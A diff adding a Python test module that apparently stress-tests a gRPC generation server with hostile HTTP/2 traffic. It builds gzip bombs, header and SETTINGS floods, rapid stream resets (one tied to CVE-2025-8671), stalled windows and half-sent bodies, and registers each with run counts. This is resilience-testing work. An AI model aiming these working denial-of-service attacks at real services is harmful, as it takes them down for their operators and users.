@@ -1,0 +1,315 @@
+"""Attacks on what a server holds: memory, engine starts, places in its tables. Each talks to an address, bounded by a
+count, and returns how many things it did. `key` is an API key of the attacker where it needs one.
+"""
+
+from __future__ import annotations
+
+import struct
+import threading
+import time
+import zlib
+from collections.abc import Callable
+from contextlib import closing
+
+from tests.hostile.attacks import question
+from tests.hostile.frames import (
+    ACK,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    RST,
+    SETTINGS,
+    WINDOW_UPDATE,
+    Pairs,
+    Wire,
+    call_headers,
+    frame,
+    frames,
+    literal,
+    message,
+)
+
+Held = Callable[[str, int, str], int]
+WATCH, CHECK = "/grpc.health.v1.Health/Watch", "/grpc.health.v1.Health/Check"
+COUNT_TOKENS = "/penstock.v1.GenerationService/CountTokens"
+STREAM = "/penstock.v1.GenerationService/StreamGenerate"
+_CANCEL = struct.pack(">I", 8)
+_MIB = 1 << 20
+
+
+def greeted(address: str, settings: bytes = b"") -> Wire:
+    """A connection on which both sides' settings are in force: before that, gRPC's core takes few streams."""
+    wire = Wire(address, settings)
+    wire.drain(0.2)
+    wire.send(frame(SETTINGS, ACK))
+    return wire
+
+
+def bearer(key: str) -> Pairs:
+    return [(b"authorization", b"Bearer " + key.encode())] if key else []
+
+
+def gzipped(size: int) -> bytes:
+    """A message of so many zero bytes in field 1, compressed."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
+    length = bytearray()
+    left = size
+    while left > 127:
+        length.append(left & 127 | 128)
+        left >>= 7
+    head = bytes([0x0A, *length, left])
+    packed = packer.compress(head + bytes(size)) + packer.flush()
+    return struct.pack(">BI", 1, len(packed)) + packed
+
+
+def gzipped_names(address: str, count: int, _key: str) -> int:
+    """Names of services of 4 MiB, which are 4 KiB on the wire, for Watch to keep."""
+    body = gzipped(4 * _MIB - 64)
+    with closing(greeted(address)) as wire:
+        for _ in range(count):
+            head = call_headers(path=WATCH, more=[(b"grpc-encoding", b"gzip")])
+            stream = wire.stream()
+            wire.send(frame(HEADERS, END_HEADERS, stream, head), frame(DATA, END_STREAM, stream, body))
+            wire.drain(0.001)
+        wire.drain(2)
+    return count
+
+
+def gzip_bombs(address: str, count: int, key: str) -> int:
+    """Messages of 2 MiB that unpack to 2 GiB, from a caller who may send messages."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
+    zeros = bytes(_MIB)
+    packed = b"".join(packer.compress(zeros) for _ in range(2048)) + packer.flush()
+    body = struct.pack(">BI", 1, len(packed)) + packed
+    for _ in range(count):
+        with closing(greeted(address)) as wire:
+            stream = wire.stream()
+            more = [*bearer(key), (b"grpc-encoding", b"gzip")]
+            wire.send(frame(HEADERS, END_HEADERS, stream, call_headers(path=COUNT_TOKENS, more=more)))
+            _pour(wire, stream, body, 5)
+            wire.drain(0.2)
+    return count
+
+
+def _pour(wire: Wire, stream: int, body: bytes, seconds: float) -> None:
+    """Send a body of one stream as windows open."""
+    window = 65535
+    rest, until = memoryview(body), time.monotonic() + seconds
+    while rest and not wire.is_cut and time.monotonic() < until:
+        size = min(window, len(rest), 16_000)
+        if size:
+            wire.send(frame(DATA, 0, stream, bytes(rest[:size])))
+            rest, window = rest[size:], window - size
+        for kind, _, of, payload in frames(wire.drain(0.001)):
+            if kind == WINDOW_UPDATE and of == stream:
+                window += int.from_bytes(payload, "big")
+            if kind == RST:
+                return
+
+
+def small_fields(address: str, count: int, _key: str) -> int:
+    """Header blocks of a few hundred bytes that are hundreds of fields, each kept as long as its Watch."""
+    with closing(greeted(address)) as wire:
+        for _ in range(count):
+            stream = wire.stream()
+            block = call_headers(path=WATCH) + literal(b"a", b"", indexed=True) + b"\xbe" * 330
+            wire.send(frame(HEADERS, END_HEADERS, stream, block), frame(DATA, END_STREAM, stream, message(b"")))
+            if stream % 64 == 1:
+                wire.drain(0.01)
+        wire.drain(2)
+    return count
+
+
+def settings_storm(address: str, count: int, _key: str) -> int:
+    """SETTINGS of 2,700 entries that move the windows of a few hundred open streams."""
+    entries = b"".join(struct.pack(">HI", 4, 65535 - n % 2) for n in range(2700))
+    with closing(greeted(address)) as wire:
+        for _ in range(300):
+            wire.send(frame(HEADERS, END_HEADERS, wire.stream(), call_headers(path=WATCH)))
+        for _ in range(count):
+            wire.send(frame(SETTINGS, 0, 0, entries))
+            wire.drain(0.005)
+    return count
+
+
+def provoked_resets(address: str, count: int, key: str) -> int:
+    """Calls that start the engine, and then a frame that makes the server reset the stream (CVE-2025-8671)."""
+    return _start_and_end(address, count, key, lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4)))
+
+
+def started_and_reset(address: str, count: int, key: str) -> int:
+    """Calls that start the engine, cancelled a moment later."""
+    return _start_and_end(address, count, key, lambda stream: frame(RST, 0, stream, _CANCEL))
+
+
+def _start_and_end(address: str, count: int, key: str, end: Callable[[int], bytes]) -> int:
+    body, sent = question(), 0
+    wire = greeted(address)
+    while sent < count:
+        if wire.is_cut:
+            wire.close()
+            wire = greeted(address)
+        streams = [wire.call(body, path=STREAM, more=bearer(key)) for _ in range(32)]
+        _until_answered(wire, 8, 1.0)
+        wire.send(*(end(stream) for stream in streams))
+        sent += len(streams)
+    wire.close()
+    return sent
+
+
+def _until_answered(wire: Wire, count: int, seconds: float) -> None:
+    """Wait until so many answers have begun, so that what is ended then has cost the server something."""
+    until = time.monotonic() + seconds
+    while count > 0 and not wire.is_cut and time.monotonic() < until:
+        count -= sum(kind == HEADERS for kind, *_ in frames(wire.drain(0.01)))
+
+
+def refusals_unread(address: str, count: int, _key: str) -> int:
+    """Calls that are refused, from a client that takes nothing from its socket."""
+    with closing(greeted(address)) as wire:
+        wire.socket.settimeout(2)
+        for sent in range(count):
+            wire.call(question(), path=STREAM)
+            if wire.is_cut:
+                return sent
+        time.sleep(1)
+    return count
+
+
+def half_messages(address: str, count: int, key: str) -> int:
+    """Requests that claim 4 MiB, send some of it, and are given up by a reset or with their connection."""
+    for number in range(0, count, 50):
+        with closing(greeted(address)) as wire:
+            for _ in range(min(50, count - number)):
+                stream = wire.stream()
+                head = frame(HEADERS, END_HEADERS, stream, call_headers(path=COUNT_TOKENS, more=bearer(key)))
+                wire.send(head, frame(DATA, 0, stream, message(bytes(1000), claimed_bytes=4 * _MIB - 1)))
+                if stream % 4 == 1:
+                    wire.send(frame(RST, 0, stream, _CANCEL))
+            wire.drain(0.05)
+            if number % 100:
+                wire.vanish()
+    return count
+
+
+def bodies_without_end(address: str, count: int, _key: str) -> int:
+    """Health checks that claim 4 MiB and send nearly all of it."""
+    with closing(greeted(address)) as wire:
+        for _ in range(count):
+            stream = wire.stream()
+            wire.send(frame(HEADERS, END_HEADERS, stream, call_headers(path=CHECK)))
+            _pour(wire, stream, message(bytes(2 * _MIB), claimed_bytes=4 * _MIB - 1), 0.2)
+    return count
+
+
+def calls_without_bodies(address: str, count: int, key: str) -> int:
+    """Calls whose message never comes."""
+    with closing(greeted(address)) as wire:
+        for _ in range(count):
+            stream = wire.stream()
+            wire.send(frame(HEADERS, END_HEADERS, stream, call_headers(path=COUNT_TOKENS, more=bearer(key))))
+        wire.drain(3)
+    return count
+
+
+def no_messages(address: str, count: int, _key: str) -> int:
+    """Health checks whose bytes are no message."""
+    with closing(greeted(address)) as wire:
+        for number in range(count):
+            wire.call(b"\xff" * 20, path=CHECK)
+            if number % 64 == 0:
+                wire.drain(0.02)
+        wire.drain(1)
+    return count
+
+
+def busy_connection(address: str, count: int, _key: str) -> int:
+    """Health checks as fast as one connection takes them, answers read."""
+    with closing(greeted(address)) as wire:
+        for number in range(count):
+            wire.call(b"", path=CHECK)
+            if number % 100 == 99:
+                wire.drain(0.001)
+        wire.drain(1)
+    return count
+
+
+def stalled_readers(address: str, count: int, key: str) -> int:
+    """Streams that open no window: the caller is given up, what each stream holds stays until it ends."""
+    with closing(greeted(address, struct.pack(">HI", 4, 0))) as wire:
+        for number in range(count):
+            wire.call(question("NORMAL"), path=STREAM, more=bearer(key))
+            if number % 32 == 31:
+                wire.drain(0.2)
+        wire.drain(5)
+    return count
+
+
+def idle_connections(address: str, count: int, _key: str) -> int:
+    """Connections that greet and then say nothing."""
+    wires = [Wire(address) for _ in range(count)]
+    time.sleep(1)
+    for wire in wires:
+        wire.close()
+    return count
+
+
+def watchers_that_do_not_read(address: str, count: int, _key: str) -> int:
+    """Watch with closed windows: who watches must hold up neither other watchers nor the status."""
+    with closing(greeted(address, struct.pack(">HI", 4, 0))) as wire:
+        for _ in range(count):
+            wire.call(b"", path=WATCH)
+        wire.drain(1)
+    return count
+
+
+# Each with the count of a short run, and that of a long one.
+ATTACKS: dict[Held, tuple[int, int]] = {
+    gzipped_names: (150, 3000),
+    gzip_bombs: (3, 50),
+    small_fields: (500, 20_000),
+    settings_storm: (100, 3000),
+    provoked_resets: (1500, 50_000),
+    started_and_reset: (1500, 50_000),
+    refusals_unread: (3000, 100_000),
+    half_messages: (500, 10_000),
+    bodies_without_end: (40, 500),
+    calls_without_bodies: (900, 900),
+    no_messages: (1000, 50_000),
+    busy_connection: (3000, 200_000),
+    stalled_readers: (96, 2000),
+    idle_connections: (300, 300),
+    watchers_that_do_not_read: (40, 400),
+}
+
+
+class Beside:
+    """Runs an attack on a thread, as often as asked, while its caller looks on."""
+
+    def __init__(self, attack: Held, address: str, count: int, key: str) -> None:
+        self._failure: Exception | None = None
+        self.did = 0
+        self._work = (attack, address, count, key)
+        self._thread = threading.Thread(target=self._run)
+
+    def _run(self) -> None:
+        attack, address, count, key = self._work
+        try:
+            self.did = attack(address, count, key)
+        except Exception as failure:
+            self._failure = failure
+
+    def start(self) -> None:
+        self._thread.start()
+
+    @property
+    def is_on(self) -> bool:
+        return self._thread.is_alive()
+
+    def result(self) -> int:
+        """Wait for its end, and return how many things it did. Raises what it failed with."""
+        self._thread.join()
+        if self._failure is not None:
+            raise self._failure
+        return self.did
